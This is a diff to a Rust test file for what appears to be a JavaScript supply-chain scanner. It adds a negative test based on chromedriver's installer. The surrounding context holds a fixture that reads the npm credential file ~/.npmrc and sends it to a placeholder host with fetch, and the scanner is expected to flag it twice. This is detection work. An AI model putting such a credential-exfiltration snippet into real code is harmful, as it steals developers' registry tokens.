@@ -167,3 +167,11 @@ fn a_request_to_the_host_named_in_the_credential_file_is_its_own_service() {
     let stolen = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nfetch(`https://x.example.invalid/?t=${text}`);\nconst u = 'https://x.example.invalid/?t=' + text;\nfetch(u);\n");
     assert_eq!(stolen.len(), 2, "{stolen:?}");
 }
+
+#[test]
+fn a_downloaded_name_in_a_path_is_not_downloaded_code() {
+    // chromedriver's installer: the version string fetched from a JSON index names the folder of the
+    // binary it then runs with --version.
+    let text = "const axios = require('axios');\nconst path = require('path');\nconst { spawn } = require('child_process');\nasync function install(dir) {\n  const response = await axios.request({ url: 'https://x.example.invalid/versions.json' });\n  const version = response.data.version;\n  const bin = path.resolve(dir, version, 'chromedriver');\n  spawn(bin, ['--version']);\n}\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
